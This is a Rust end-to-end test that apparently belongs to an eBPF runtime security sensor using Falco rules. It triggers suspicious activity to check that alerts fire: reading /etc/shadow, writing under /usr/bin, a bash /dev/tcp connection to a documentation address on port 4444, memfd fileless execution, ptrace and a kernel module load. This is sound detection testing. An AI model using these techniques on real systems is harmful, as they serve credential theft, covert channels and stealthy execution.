//! End to end: the sensor runs with Falco's stable rules (plus the seed's
//! "Sensitive File Access in Container" rule), real activity is triggered,
//! and the expected rules must fire with the right fields.
//!
//! Needs root and a kernel with BTF; skipped with a message otherwise, and a
//! failure when CI=true.
#![cfg(feature = "bpf")]

use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::sync::Arc;
use std::time::{Duration, Instant};

use palisade_detect::{Alert, Engine, RuleMatching};
use palisade_sensor::run::{RunOptions, Running};
use palisade_sensor::syscalls::ExitHook;

#[cfg(feature = "cri")]
#[path = "common/fake_cri.rs"]
mod fake_cri;

fn shared(rel: &str) -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("../../../shared")
        .join(rel)
}

fn ci() -> bool {
    std::env::var("CI").is_ok_and(|v| v == "true")
}

/// Whether the environment can run the sensor; prints why not.
fn can_run() -> bool {
    let why = if unsafe { libc::geteuid() } != 0 {
        Some("not root")
    } else if !Path::new("/sys/kernel/btf/vmlinux").exists() {
        Some("no kernel BTF")
    } else {
        None
    };
    match why {
        None => true,
        Some(w) if ci() => panic!("e2e sensor tests need root and BPF under CI: {w}"),
        Some(w) => {
            eprintln!("skipping the sensor end-to-end tests: {w}");
            false
        }
    }
}

fn rules_files() -> Option<Vec<PathBuf>> {
    let stable = shared("conformance/falco-rules/falcosecurity-rules/falco_rules.yaml");
    let sandbox = shared("conformance/falco-rules/falcosecurity-rules/falco-sandbox_rules.yaml");
    let seed = shared("seed-examples/05-falco-rules.yaml");
    for f in [&stable, &sandbox, &seed] {
        if !f.exists() {
            if ci() {
                panic!("missing {}", f.display());
            }
            eprintln!("skipping: {} not found", f.display());
            return None;
        }
    }
    Some(vec![stable, sandbox, seed])
}

/// The seed rule, adapted to fire on the host (its `container` macro
/// replaced by `container.id = host`) and showing container.id.
const HOST_COPY: &str = r#"
- rule: Sensitive File Access on Host (e2e copy)
  desc: the seed's Sensitive File Access in Container, for the host
  condition: >
    open_read and
    container.id = host and
    fd.name in (/etc/passwd, /etc/shadow, /etc/hosts, /etc/hostname) and
    not proc.name in (cat, grep, less, more, tail, head)
  output: >
    Sensitive file opened for reading (user=%user.name command=%proc.cmdline
    file=%fd.name container=%container.id name=%proc.name)
  priority: WARNING
  tags: [filesystem, mitre_discovery]

- rule: Process in container (e2e)
  desc: shows the container fields of every exec in a container
  condition: spawned_process and container
  output: "exec in container id=%container.id full=%container.full_id type=%container.type cname=%container.name pod=%k8s.pod.name ns=%k8s.ns.name name=%proc.name parent=%proc.pname cmd=%proc.cmdline tty=%proc.tty start=%container.start_ts pidns_start=%proc.pidns_init_start_ts"
  priority: INFO
"#;

struct Env {
    running: Running,
    dir: tempfile::TempDir,
    seen: Vec<Alert>,
    /// The CRI runtime that knows the fake container.
    #[cfg(feature = "cri")]
    cri: fake_cri::FakeServer,
}

fn start() -> Option<Env> {
    if !can_run() {
        return None;
    }
    let files = rules_files()?;
    let dir = tempfile::tempdir().unwrap();
    let host_copy = dir.path().join("host-copy.yaml");
    std::fs::write(&host_copy, HOST_COPY).unwrap();
    let mut builder = Engine::builder().rule_matching(RuleMatching::All);
    for f in files.iter().chain(std::iter::once(&host_copy)) {
        builder = builder.rules_file(f).unwrap();
    }
    let engine = builder.build();
    let names: Vec<String> = engine.rules().into_iter().map(|r| r.name).collect();
    for needed in [
        "Read sensitive file untrusted",
        "Terminal shell in container",
        "Write below binary dir",
        "Disallowed SSH Connection Non Standard Port",
        "Sensitive File Access in Container",
        "Sensitive File Access on Host (e2e copy)",
    ] {
        assert!(
            names.iter().any(|n| n == needed),
            "rule {needed} not loaded"
        );
    }
    #[cfg(feature = "cri")]
    let cri = {
        let server = fake_cri::FakeServer::start();
        server.fake.add_container(
            CONTAINER_ID,
            SANDBOX_ID,
            "e2e-web",
            "registry.example/e2e/web:1.0",
            "e2e-pod",
            "e2e-ns",
        );
        server
            .fake
            .add_sandbox(SANDBOX_ID, "e2e-pod", "e2e-ns", "10.0.0.7");
        server
    };
    let opts = RunOptions {
        metrics_addr: Some("127.0.0.1:0".parse().unwrap()),
        #[cfg(feature = "cri")]
        cri: palisade_sensor::cri::CriOptions {
            sockets: vec![cri.path.clone()],
            ..Default::default()
        },
        ..RunOptions::default()
    };
    let running = Running::spawn(Arc::new(engine), opts).expect("sensor starts");
    Some(Env {
        running,
        dir,
        seen: Vec::new(),
        #[cfg(feature = "cri")]
        cri,
    })
}

impl Env {
    /// A copy of a system binary under a name of our own, so that the rules'
    /// lists of trusted programs do not exempt it.
    fn tool(&self, system: &str, name: &str) -> PathBuf {
        let src = ["/usr/bin", "/bin"]
            .iter()
            .map(|d| Path::new(d).join(system))
            .find(|p| p.exists())
            .unwrap_or_else(|| panic!("{system} not found"));
        let dst = self.dir.path().join(name);
        std::fs::copy(&src, &dst).unwrap();
        dst
    }

    /// Waits for an alert of `rule` whose output contains `needle`.
    fn wait(&mut self, rule: &str, needle: &str) -> Alert {
        let deadline = Instant::now() + Duration::from_secs(15);
        loop {
            if let Some(a) = self
                .seen
                .iter()
                .find(|a| a.rule == rule && a.output.contains(needle))
            {
                return a.clone();
            }
            let left = deadline.saturating_duration_since(Instant::now());
            if left.is_zero() {
                let got: Vec<String> = self
                    .seen
                    .iter()
                    .map(|a| format!("{}: {}", a.rule, a.message))
                    .collect();
                panic!(
                    "no alert of '{rule}' containing '{needle}' within 15 s; got:\n{}",
                    got.join("\n")
                );
            }
            if let Ok(a) = self
                .running
                .alerts
                .recv_timeout(left.min(Duration::from_millis(200)))
            {
                self.seen.push(a);
            }
        }
    }
}

fn marker() -> String {
    format!(
        "{:x}{:x}",
        std::process::id(),
        Instant::now().elapsed().as_nanos() ^ 0x5eed
    )
}

fn epoch_ns() -> u64 {
    std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .map(|d| d.as_nanos() as u64)
        .unwrap_or(0)
}

fn field(a: &Alert, name: &str) -> String {
    match a.output_fields.get(name) {
        Some(serde_json::Value::String(s)) => s.clone(),
        Some(v) => v.to_string(),
        None => panic!("{name} not in {:?}", a.output_fields),
    }
}

#[test]
fn sensor_end_to_end() {
    let Some(mut env) = start() else { return };
    let m = marker();
    eprintln!("capturing: {:?}", env.running.syscalls);
    assert!(env.running.syscalls.contains(&"openat"));
    assert!(env.running.syscalls.contains(&"connect"));
    // Only what the rules need: no rule asks for kill.
    assert!(!env.running.syscalls.contains(&"kill"));

    // 1. A sensitive file read by an untrusted program, on the host.
    let rd = env.tool("cat", "pal-e2e-rd");
    let before = epoch_ns();
    let st = Command::new(&rd)
        .args(["/etc/shadow", &format!("/nonexistent-{m}")])
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .status()
        .unwrap();
    assert!(!st.success(), "the second file does not exist");
    let after = epoch_ns();
    let a = env.wait("Read sensitive file untrusted", &m);
    // The event's time is when it happened: a syscall record may reuse its
    // task's earlier clock reading on the same CPU, never one from before
    // the process existed (the boot-to-epoch offset is a few µs off).
    let slack = 5_000_000;
    assert!(
        a.time_ns + slack >= before && a.time_ns <= after + slack,
        "event time {} outside the command's run {before}..{after}",
        a.time_ns
    );
    assert_eq!(field(&a, "proc.name"), "pal-e2e-rd");
    assert_eq!(field(&a, "fd.name"), "/etc/shadow");
    assert_eq!(field(&a, "user.name"), "root");
    assert_eq!(field(&a, "user.uid"), "0");
    assert_eq!(
        field(&a, "proc.cmdline"),
        format!("pal-e2e-rd /etc/shadow /nonexistent-{m}")
    );
    assert_eq!(field(&a, "proc.exepath"), rd.display().to_string());
    assert_eq!(field(&a, "evt.type"), "openat");
    let a = env.wait("Sensitive File Access on Host (e2e copy)", &m);
    assert!(a.message.contains("container=host"), "{}", a.message);
    assert!(a.message.contains("user=root"), "{}", a.message);

    // 2. Writing below a binary directory.
    let wr = env.tool("touch", "pal-e2e-wr");
    let target = PathBuf::from(format!("/usr/bin/pal-e2e-{m}"));
    let st = Command::new(&wr).arg(&target).status().unwrap();
    assert!(st.success());
    let _ = std::fs::remove_file(&target);
    let a = env.wait("Write below binary dir", &m);
    assert_eq!(field(&a, "fd.name"), target.display().to_string());
    assert_eq!(field(&a, "proc.name"), "pal-e2e-wr");
    assert_eq!(field(&a, "user.name"), "root");
    // A path too long for a record built in place in the ring (256 bytes):
    // the kernel side builds it in its scratch buffer instead, whole.
    // One component of 250 bytes (the limit is 255), 259 with the directory.
    let long_name = format!("pal-e2e-long-{m}-");
    let long_name = format!("{long_name}{}", "x".repeat(250 - long_name.len()));
    let long = PathBuf::from(format!("/usr/bin/{long_name}"));
    assert!(long.as_os_str().len() > 256);
    let st = Command::new(&wr).arg(&long).status().unwrap();
    assert!(st.success());
    let _ = std::fs::remove_file(&long);
    let a = env.wait("Write below binary dir", &long_name);
    assert_eq!(field(&a, "fd.name"), long.display().to_string());

    // 3. A shell with a terminal under a fake container's cgroup.
    container_shell(&mut env, &m);

    // 4. An outbound connection to a non-standard SSH port.
    outbound(&mut env, &m);

    // 5. A program run from a memfd.
    memfd_exec(&mut env, &m);

    // 6. A process attaching to another with ptrace.
    ptrace_attach(&mut env, &m);

    // 7. An event followed by silence on its CPU still arrives.
    quiet_after_event(&mut env, &m);

    // The counters and alerts are on /metrics (refreshed every second).
    let addr = env.running.metrics_addr.expect("metrics served");
    let deadline = Instant::now() + Duration::from_secs(5);
    let body = loop {
        let body = http_get(addr, "/metrics");
        if body.contains("Disallowed SSH Connection Non Standard Port") || Instant::now() > deadline
        {
            break body;
        }
        std::thread::sleep(Duration::from_millis(200));
    };
    assert!(
        body.contains("palisade_sensor_drops_total{category=\"file\"} 0"),
        "{body}"
    );
    assert!(
        body.contains("palisade_sensor_events_total{category=\"net\"}"),
        "{body}"
    );
    assert!(
        body.contains("palisade_detect_events_total{rule=\"Read sensitive file untrusted\",priority=\"Warning\",source=\"syscall\"}"),
        "{body}"
    );

    #[cfg(feature = "cri")]
    assert!(
        body.contains("palisade_sensor_cri_lookups_total{result=\"found\"}"),
        "{body}"
    );

    let stats = env.running.stop().unwrap();
    // The hook actually used: per-syscall fexit programs when this kernel
    // allows them, else the generic tracepoint, and then with the reason.
    eprintln!(
        "exit hook: {} (fallback: {:?})",
        stats.exit_hook, stats.fallback_reason
    );
    assert_ne!(stats.exit_hook, ExitHook::Auto);
    assert_eq!(
        stats.exit_hook == ExitHook::Tracepoint,
        stats.fallback_reason.is_some(),
        "{:?}",
        stats.fallback_reason
    );
    assert!(stats.records > 0);
    assert_eq!(stats.counters.drops(), 0, "{:?}", stats.counters);
}

const CONTAINER_ID: &str = "e2e0c6e1a2b4c5d6e7f8091a2b3c4d5e6f708192a3b4c5d6e7f8091a2b3c4d5e";
/// The fake container's pod sandbox, as the fake CRI runtime reports it.
#[cfg(feature = "cri")]
const SANDBOX_ID: &str = "5a4d0c6e1a2b4c5d6e7f8091a2b3c4d5e6f708192a3b4c5d6e7f8091a2b3c4d5";

/// A cgroup named like a containerd container under kubepods, in whichever
/// hierarchy this machine lets us create one.
fn fake_container_cgroup() -> Option<PathBuf> {
    let leaf = format!(
        "palisade-e2e.slice/kubepods-pod0a1b2c3d_1111_2222_3333_444455556666.slice/cri-containerd-{CONTAINER_ID}.scope"
    );
    for base in [
        "/sys/fs/cgroup/unified",
        "/sys/fs/cgroup/pids",
        "/sys/fs/cgroup",
    ] {
        let dir = Path::new(base).join(&leaf);
        if std::fs::create_dir_all(&dir).is_ok() && dir.join("cgroup.procs").exists() {
            return Some(dir);
        }
    }
    None
}

fn remove_cgroup(dir: &Path) {
    // Leaf first; a cgroup dir is removed with rmdir once empty.
    let mut d = Some(dir);
    while let Some(p) = d {
        if p.file_name()
            .is_some_and(|n| n.to_string_lossy().starts_with("palisade-e2e"))
        {
            let _ = std::fs::remove_dir(p);
            break;
        }
        let _ = std::fs::remove_dir(p);
        d = p.parent();
    }
}

fn container_shell(env: &mut Env, m: &str) {
    use std::os::unix::process::CommandExt;
    let Some(cg) = fake_container_cgroup() else {
        if ci() {
            panic!("cannot create a cgroup for the fake container");
        }
        eprintln!("skipping the container part: cannot create a cgroup");
        return;
    };
    // A parent named like a container runtime's shim, so that the shell is
    // the container's entrypoint for the rule (container_entrypoint).
    let shim = env.dir.path().join("containerd-shim");
    let bash = ["/usr/bin/bash", "/bin/bash"]
        .iter()
        .find(|p| Path::new(p).exists())
        .copied()
        .unwrap_or("/bin/bash");
    std::os::unix::fs::symlink(bash, &shim).unwrap();
    let rd = env.dir.path().join("pal-e2e-rd");
    // The container's long-lived process (its "pause" or entrypoint), as in
    // a real pod: user names are read through its /proc/PID/root.
    let mut init = {
        let procs = cg.join("cgroup.procs");
        let mut c = Command::new("sleep");
        c.arg("30");
        unsafe {
            let procs = std::ffi::CString::new(procs.display().to_string()).unwrap();
            c.pre_exec(move || {
                let fd = libc::open(procs.as_ptr(), libc::O_WRONLY);
                if fd < 0 || libc::write(fd, b"0".as_ptr().cast(), 1) != 1 {
                    return Err(std::io::Error::last_os_error());
                }
                libc::close(fd);
                Ok(())
            });
        }
        c.spawn().unwrap()
    };
    // The container's first process makes the sensor ask the runtime, in
    // the background; what follows is seen once the answer is in.
    #[cfg(feature = "cri")]
    {
        let deadline = Instant::now() + Duration::from_secs(10);
        while env.cri.fake.count("PodSandboxStatus", SANDBOX_ID) == 0 {
            assert!(
                Instant::now() < deadline,
                "the sensor did not ask the CRI runtime about the container: {:?}",
                env.cri.fake.calls.lock().unwrap()
            );
            std::thread::sleep(Duration::from_millis(20));
        }
        std::thread::sleep(Duration::from_millis(300));
    }
    // A terminal for the shell: a new pty made its controlling terminal.
    let master = unsafe { libc::posix_openpt(libc::O_RDWR | libc::O_NOCTTY) };
    assert!(master >= 0);
    unsafe {
        assert_eq!(libc::grantpt(master), 0);
        assert_eq!(libc::unlockpt(master), 0);
    }
    let mut name = [0 as libc::c_char; 128];
    assert_eq!(
        unsafe { libc::ptsname_r(master, name.as_mut_ptr(), name.len()) },
        0
    );
    let slave_path = unsafe { std::ffi::CStr::from_ptr(name.as_ptr()) }.to_owned();
    let procs = std::ffi::CString::new(cg.join("cgroup.procs").display().to_string()).unwrap();
    let script = format!(
        "sh -c 'true {m}'; {} /etc/hostname > /dev/null; true",
        rd.display()
    );
    let mut cmd = Command::new(&shim);
    cmd.args(["-c", &script])
        .stdout(Stdio::null())
        .stderr(Stdio::null());
    unsafe {
        cmd.pre_exec(move || {
            // Join the fake container, then take the terminal.
            let fd = libc::open(procs.as_ptr(), libc::O_WRONLY);
            if fd < 0 || libc::write(fd, b"0".as_ptr().cast(), 1) != 1 {
                return Err(std::io::Error::last_os_error());
            }
            libc::close(fd);
            if libc::setsid() < 0 {
                return Err(std::io::Error::last_os_error());
            }
            let tty = libc::open(slave_path.as_ptr(), libc::O_RDWR);
            if tty < 0 || libc::ioctl(tty, libc::TIOCSCTTY, 0) < 0 {
                return Err(std::io::Error::last_os_error());
            }
            libc::dup2(tty, 0);
            Ok(())
        });
    }
    let st = cmd.status().unwrap();
    unsafe { libc::close(master) };
    assert!(st.success());
    let a = env.wait("Terminal shell in container", m);
    assert_eq!(field(&a, "proc.name"), "sh");
    assert_eq!(field(&a, "proc.pname"), "containerd-shim");
    assert_eq!(field(&a, "proc.cmdline"), format!("sh -c true {m}"));
    assert_ne!(field(&a, "proc.tty"), "0");
    let a = env.wait("Process in container (e2e)", &format!("true {m}"));
    assert!(
        a.message.contains(&format!("id={}", &CONTAINER_ID[..12])),
        "{}",
        a.message
    );
    // The container's start is its pid namespace's init's, from the kernel:
    // this fake container shares the host's pid namespace, whose init
    // started before this test did.
    let start: u64 = field(&a, "container.start_ts").parse().unwrap();
    assert_eq!(field(&a, "proc.pidns_init_start_ts"), start.to_string());
    assert!(start > 0 && start < epoch_ns(), "{}", a.message);
    assert!(
        a.message.contains(&format!("full={CONTAINER_ID}")),
        "{}",
        a.message
    );
    #[cfg(feature = "cri")]
    {
        // The runtime's name and the pod, from the fake CRI runtime.
        assert!(a.message.contains("type=containerd"), "{}", a.message);
        assert!(
            a.message.contains("cname=e2e-web pod=e2e-pod ns=e2e-ns"),
            "{}",
            a.message
        );
        assert_eq!(env.cri.fake.count("ListContainers", CONTAINER_ID), 1);
    }
    #[cfg(not(feature = "cri"))]
    assert!(a.message.contains("type=cri"), "{}", a.message);
    // The seed rule itself, unchanged, in the container.
    // The shell itself may read /etc/passwd (its cmdline names /etc/hostname
    // too), so wait on the file field, not the command line.
    let a = env.wait("Sensitive File Access in Container", "file=/etc/hostname");
    assert!(a.message.contains("file=/etc/hostname"), "{}", a.message);
    assert!(
        a.message.contains("command=pal-e2e-rd /etc/hostname"),
        "{}",
        a.message
    );
    assert!(a.message.contains("user=root"), "{}", a.message);
    // The seed rule's own output names the container and its image.
    #[cfg(feature = "cri")]
    assert!(
        a.message
            .contains("container=e2e-web image=registry.example/e2e/web"),
        "{}",
        a.message
    );
    // A kernel module load from the container (which the kernel refuses).
    kernel_module_load(env, m, &cg);
    let _ = init.kill();
    let _ = init.wait();
    remove_cgroup(&cg);
}

/// Which helper a re-run of this test binary is (see [`helper`]).
const HELPER_ENV: &str = "PAL_E2E_HELPER";

/// This test binary, to run again as a helper doing one thing (`what`, one
/// of the `helper_*` tests), with `tag` among its arguments so that only its
/// own alerts match.
fn helper_command(what: &str, tag: &str) -> Command {
    let mut cmd = Command::new(std::env::current_exe().unwrap());
    // A second filter that matches no test: the tag, for the alerts.
    cmd.args([
        &format!("helper_{what}"),
        tag,
        "--exact",
        "--test-threads=1",
    ])
    .env(HELPER_ENV, what)
    .stdout(Stdio::null())
    .stderr(Stdio::null());
    cmd
}

/// Runs a helper (see [`helper_command`]) to its end, in the cgroup
/// `cgroup` when given.
fn helper(what: &str, tag: &str, cgroup: Option<&Path>) -> std::process::ExitStatus {
    use std::os::unix::process::CommandExt;
    let mut cmd = helper_command(what, tag);
    if let Some(cg) = cgroup {
        let procs = std::ffi::CString::new(cg.join("cgroup.procs").display().to_string()).unwrap();
        unsafe {
            cmd.pre_exec(move || {
                let fd = libc::open(procs.as_ptr(), libc::O_WRONLY);
                if fd < 0 || libc::write(fd, b"0".as_ptr().cast(), 1) != 1 {
                    return Err(std::io::Error::last_os_error());
                }
                libc::close(fd);
                Ok(())
            });
        }
    }
    cmd.status().unwrap()
}

fn is_helper(what: &str) -> bool {
    std::env::var(HELPER_ENV).is_ok_and(|v| v == what)
}

/// Helper: PTRACE_SEIZE on a child of its own (then kills it).
#[test]
fn helper_ptrace() {
    if !is_helper("ptrace") {
        return;
    }
    let mut child = Command::new("sleep").arg("5").spawn().unwrap();
    let r = unsafe {
        libc::ptrace(
            libc::PTRACE_SEIZE,
            child.id() as libc::pid_t,
            std::ptr::null_mut::<libc::c_void>(),
            std::ptr::null_mut::<libc::c_void>(),
        )
    };
    let err = std::io::Error::last_os_error();
    let _ = child.kill();
    let _ = child.wait();
    assert_eq!(r, 0, "PTRACE_SEIZE: {err}");
}

/// Helper: reads /etc/shadow, then sleeps without a syscall the sensor
/// captures, so nothing else of its own sends its CPU's batch.
#[test]
fn helper_hold() {
    if !is_helper("hold") {
        return;
    }
    let _ = std::fs::read("/etc/shadow");
    // Tell the test the read is done (its start-up can take seconds); a raw
    // write, which the test harness does not capture.
    let msg = b"pal-e2e-read\n";
    assert_eq!(
        unsafe { libc::write(1, msg.as_ptr().cast(), msg.len()) },
        msg.len() as isize
    );
    std::thread::sleep(Duration::from_secs(6));
}

/// Syscall records wait in a per-CPU batch until it fills, another record
/// of that CPU goes to the ring directly (a fork, an exit), or the periodic
/// flush: the alert must come while the helper sleeps, from the flush (on
/// a quiet CPU) or from other activity, never only at its exit.
fn quiet_after_event(env: &mut Env, m: &str) {
    use std::io::BufRead;
    let tag = format!("hold-{m}");
    let mut child = helper_command("hold", &tag)
        .stdout(Stdio::piped())
        .spawn()
        .unwrap();
    // The harness writes its own lines first, and "test helper_hold ... "
    // just before.
    let out = std::io::BufReader::new(child.stdout.take().unwrap());
    assert!(
        out.lines()
            .map_while(Result::ok)
            .any(|l| l.ends_with("pal-e2e-read")),
        "the helper did not read"
    );
    let started = Instant::now();
    let a = env.wait("Read sensitive file untrusted", &tag);
    let waited = started.elapsed();
    let alive = child.try_wait().unwrap().is_none();
    let _ = child.kill();
    let _ = child.wait();
    assert_eq!(field(&a, "fd.name"), "/etc/shadow");
    assert!(
        alive && waited < Duration::from_secs(3),
        "the alert came after {waited:?}, with the helper {}",
        if alive { "alive" } else { "gone" }
    );
}

/// Helper: finit_module on an invalid fd, which the kernel refuses before
/// looking for a module (or, without module support, at all).
#[test]
fn helper_kernel_module() {
    if !is_helper("kernel_module") {
        return;
    }
    let r = unsafe { libc::syscall(libc::SYS_finit_module, -1, c"".as_ptr(), 0) };
    assert_eq!(r, -1);
}

fn kernel_module_load(env: &mut Env, m: &str, cg: &Path) {
    let tag = format!("kmod-{m}");
    assert!(helper("kernel_module", &tag, Some(cg)).success());
    let a = env.wait("Linux Kernel Module Injection Detected", &tag);
    assert_eq!(field(&a, "evt.type"), "finit_module");
    assert!(field(&a, "proc.args").contains(&tag));
    // Refused: a bad fd, or no module support in this kernel.
    assert!(
        ["EBADF", "ENOSYS", "EPERM"].contains(&field(&a, "evt.res").as_str()),
        "{}",
        a.message
    );
}

fn ptrace_attach(env: &mut Env, m: &str) {
    let tag = format!("ptrace-{m}");
    assert!(helper("ptrace", &tag, None).success());
    let a = env.wait("PTRACE attached to process", &tag);
    assert_eq!(field(&a, "evt.type"), "ptrace");
    assert!(field(&a, "proc.cmdline").contains(&format!("helper_ptrace {tag}")));
    assert_eq!(field(&a, "user.name"), "root");
}

/// Runs a copy of `true` from a memfd named after the marker.
fn memfd_exec(env: &mut Env, m: &str) {
    use std::io::Write;
    use std::os::fd::FromRawFd;
    let tag = format!("memfd-{m}");
    let name = std::ffi::CString::new(format!("pal-e2e-{m}")).unwrap();
    // No close-on-exec: the child runs it through /proc/self/fd.
    let fd = unsafe { libc::memfd_create(name.as_ptr(), 0) };
    assert!(fd >= 0, "{}", std::io::Error::last_os_error());
    let mut w = unsafe { std::fs::File::from_raw_fd(fd) };
    let src = ["/usr/bin/true", "/bin/true"]
        .iter()
        .find(|p| Path::new(p).exists())
        .expect("true");
    w.write_all(&std::fs::read(src).unwrap()).unwrap();
    // A read-only descriptor to run it by: a file open for writing cannot
    // be executed (ETXTBSY).
    let path = std::ffi::CString::new(format!("/proc/self/fd/{fd}")).unwrap();
    let ro = unsafe { libc::open(path.as_ptr(), libc::O_RDONLY) };
    assert!(ro >= 0, "{}", std::io::Error::last_os_error());
    drop(w);
    let st = Command::new(format!("/proc/self/fd/{ro}"))
        .arg(&tag)
        .status()
        .unwrap();
    unsafe { libc::close(ro) };
    assert!(st.success());
    let a = env.wait("Fileless execution via memfd_create", &tag);
    assert_eq!(field(&a, "evt.type"), "execve");
    assert_eq!(field(&a, "proc.cmdline"), format!("{ro} {tag}"));
}

/// Brings up loopback in this thread's fresh network namespace with an
/// extra, non-private address on it: the connection never leaves the namespace.
fn setup_netns(addr: [u8; 4]) -> std::io::Result<()> {
    unsafe {
        if libc::unshare(libc::CLONE_NEWNET) != 0 {
            return Err(std::io::Error::last_os_error());
        }
        let sock = libc::socket(libc::AF_INET, libc::SOCK_DGRAM, 0);
        if sock < 0 {
            return Err(std::io::Error::last_os_error());
        }
        let mut req: libc::ifreq = std::mem::zeroed();
        for (i, b) in b"lo".iter().enumerate() {
            req.ifr_name[i] = *b as libc::c_char;
        }
        req.ifr_ifru.ifru_flags =
            (libc::IFF_UP | libc::IFF_LOOPBACK | libc::IFF_RUNNING) as libc::c_short;
        if libc::ioctl(sock, libc::SIOCSIFFLAGS, &req) != 0 {
            return Err(std::io::Error::last_os_error());
        }
        let mut req: libc::ifreq = std::mem::zeroed();
        for (i, b) in b"lo:1".iter().enumerate() {
            req.ifr_name[i] = *b as libc::c_char;
        }
        let sin = libc::sockaddr_in {
            sin_family: libc::AF_INET as libc::sa_family_t,
            sin_port: 0,
            sin_addr: libc::in_addr {
                s_addr: u32::from_ne_bytes(addr),
            },
            sin_zero: [0; 8],
        };
        std::ptr::copy_nonoverlapping(
            (&sin as *const libc::sockaddr_in).cast::<u8>(),
            (&mut req.ifr_ifru.ifru_addr as *mut libc::sockaddr).cast::<u8>(),
            std::mem::size_of::<libc::sockaddr_in>(),
        );
        if libc::ioctl(sock, libc::SIOCSIFADDR, &req) != 0 {
            return Err(std::io::Error::last_os_error());
        }
        libc::close(sock);
    }
    Ok(())
}

fn outbound(env: &mut Env, m: &str) {
    let m2 = m.to_string();
    // A documentation address (TEST-NET-2), on loopback in a private
    // namespace: "outbound" for the rules, yet nothing leaves the machine.
    let handle = std::thread::spawn(move || -> Result<(), String> {
        setup_netns([198, 51, 100, 7]).map_err(|e| format!("netns: {e}"))?;
        let listener =
            std::net::TcpListener::bind("198.51.100.7:4444").map_err(|e| format!("bind: {e}"))?;
        let bash = ["/usr/bin/bash", "/bin/bash"]
            .iter()
            .find(|p| Path::new(p).exists())
            .copied()
            .unwrap_or("/bin/bash");
        // argv[0] "ssh": proc.exe ends with ssh, as for the ssh client.
        let script =
            format!("exec -a ssh {bash} -c 'exec 3<>/dev/tcp/198.51.100.7/4444; echo {m2} >&3'");
        let mut child = Command::new(bash)
            .args(["-c", &script])
            .spawn()
            .map_err(|e| format!("spawn: {e}"))?;
        listener.set_nonblocking(false).ok();
        let (mut conn, _) = listener.accept().map_err(|e| format!("accept: {e}"))?;
        let mut got = String::new();
        use std::io::Read;
        let _ = conn.read_to_string(&mut got);
        let _ = child.wait();
        if !got.contains(&m2) {
            return Err(format!("listener got {got:?}"));
        }
        Ok(())
    });
    match handle.join() {
        Ok(Ok(())) => {}
        Ok(Err(e)) => panic!("outbound connection set-up failed: {e}"),
        Err(_) => panic!("outbound thread panicked"),
    }
    let a = env.wait(
        "Disallowed SSH Connection Non Standard Port",
        "198.51.100.7:4444",
    );
    // The rule needs proc.exe ending with "ssh": argv[0] as given to exec.
    assert_eq!(field(&a, "proc.name"), "bash");
    assert_eq!(field(&a, "fd.l4proto"), "tcp");
    assert_eq!(
        field(&a, "fd.name").rsplit("->").next(),
        Some("198.51.100.7:4444")
    );
    assert_eq!(field(&a, "user.name"), "root");
    assert!(field(&a, "proc.cmdline").starts_with("bash -c exec 3<>/dev/tcp/198.51.100.7/4444"));
    let _ = m;
}

fn http_get(addr: std::net::SocketAddr, path: &str) -> String {
    use std::io::{Read, Write};
    let mut c = std::net::TcpStream::connect(addr).unwrap();
    c.set_read_timeout(Some(Duration::from_secs(5))).unwrap();
    write!(c, "GET {path} HTTP/1.1\r\nHost: x\r\n\r\n").unwrap();
    let mut out = String::new();
    let _ = c.read_to_string(&mut out);
    out
}
